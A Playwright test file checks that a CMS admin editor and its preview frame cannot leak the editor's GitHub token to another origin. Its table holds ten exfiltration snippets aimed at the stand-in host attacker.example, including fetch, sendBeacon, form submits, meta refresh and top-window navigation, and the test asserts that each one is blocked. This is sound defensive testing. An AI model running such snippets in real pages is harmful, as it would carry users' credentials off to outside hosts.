// The editor's window stays on its own origin. Code that ran in /admin could carry the editor's GitHub token away in
// an address; each way out is tried in Chromium under /admin's own headers (tests/support/editor.ts), from the
// editor's window and from the preview's frame, and none reaches the other origin: requests and forms are stopped
// by the Content-Security-Policy, the window's own navigations by admin/navigation-guard.ts (no header stops those).
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { useEditor } from '../support/editor.ts'

const admin = useEditor()
const AWAY = 'https://attacker.example'

/** Ways out: what the code does, and whether it runs in the editor's window or in the preview's frame. */
const WAYS: [string, string, 'window' | 'preview'][] = [
  ['location.assign()', `location.assign('${AWAY}/?t=assign')`, 'window'],
  ['location.href', `location.href = '${AWAY}/?t=href'`, 'window'],
  ['window.top.location from the preview', `window.top.location.href = '${AWAY}/?t=top'`, 'preview'],
  [
    'a link followed in place',
    `const a = document.createElement('a'); a.href = '${AWAY}/?t=link'; document.body.append(a); a.click()`,
    'window',
  ],
  [
    'a form',
    `const f = document.createElement('form'); f.action = '${AWAY}/'; const i = document.createElement('input'); i.name = 't'; i.value = 'form'; f.append(i); document.body.append(f); f.submit()`,
    'window',
  ],
  [
    'a refresh <meta>',
    `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${AWAY}/?t=meta'; document.head.append(m)`,
    'window',
  ],
  ['a frame', `const f = document.createElement('iframe'); f.src = '${AWAY}/?t=frame'; document.body.append(f)`, 'window'],
  ['a picture', `new Image().src = '${AWAY}/?t=img'`, 'window'],
  ['fetch()', `fetch('${AWAY}/?t=fetch').catch(() => {})`, 'window'],
  ['sendBeacon()', `navigator.sendBeacon('${AWAY}/?t=beacon', 'x')`, 'window'],
]

/** The preview's frame, where a page's text would run. */
async function previewFrame(page: Page) {
  const pane = await page.locator('#preview-pane').elementHandle()
  const outer = await pane!.contentFrame()
  await outer!.locator('iframe[data-preview-width]').waitFor()
  return (await (await outer!.locator('iframe[data-preview-width]').elementHandle())!.contentFrame())!
}

describe("the editor's window cannot be led to another origin", () => {
  for (const [way, code, where] of WAYS) {
    it(`${way}: nothing reaches ${AWAY}, and the editor stays`, async () => {
      const reached: string[] = []
      const { page } = await admin.openEntry('pages/entries/aboutus', {
        beforeLoad: (page) =>
          void page.context().route(`${AWAY}/**`, (route) => {
            reached.push(route.request().url())
            return route.fulfill({ body: '<title>away</title>', contentType: 'text/html' })
          }),
      })
      const target = where === 'preview' ? await previewFrame(page) : page.mainFrame()
      await target.evaluate((source) => new Function(source)(), code).catch(() => undefined)
      await page.waitForTimeout(1000)
      expect(reached).toEqual([])
      expect(page.url()).toMatch(new RegExp(`^${admin.editor.base}/admin/`))
      expect(await page.title()).not.toBe('away')
      await page.context().close()
    })
  }
})
